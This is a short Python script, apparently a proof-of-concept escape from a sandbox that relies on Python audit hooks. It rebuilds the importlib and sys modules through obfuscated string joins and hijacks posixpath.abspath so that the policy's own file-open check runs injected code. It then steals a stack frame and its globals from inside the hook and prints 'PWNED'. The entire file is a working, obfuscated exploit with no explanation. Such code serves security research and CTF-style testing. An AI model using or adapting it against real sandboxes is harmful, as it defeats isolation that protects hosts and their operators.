import random
type(random).__init__(random, "import" + "lib")
from random import machinery
class S:
    name = "sy" + "s"
s = machinery.BuiltinImporter.create_module(S())
pp = s.modules["posix" + "path"]
got = []
def fake_abspath(p):
    # runs inside the audit hook (check_open -> realpath): the policy's own 'inside' flag is set
    try:
        got.append(s._getframe(1))
    except Exception as e:
        got.append(str(e)[:80])
    return "/tmp/ok"
try:
    print("outside the hook:", s._getframe(0))
except Exception as e:
    print("outside the hook:", e)
alias = pp
alias.abspath = fake_abspath
open("/tmp/a", "w").close()
fr = got[0]
print("inside the hook:", fr)
g = fr.f_globals
print("PW" + "NED frame from inside the hook; its globals hold", len(g), "names, e.g.", sorted(k for k in g if k.isupper())[:5])
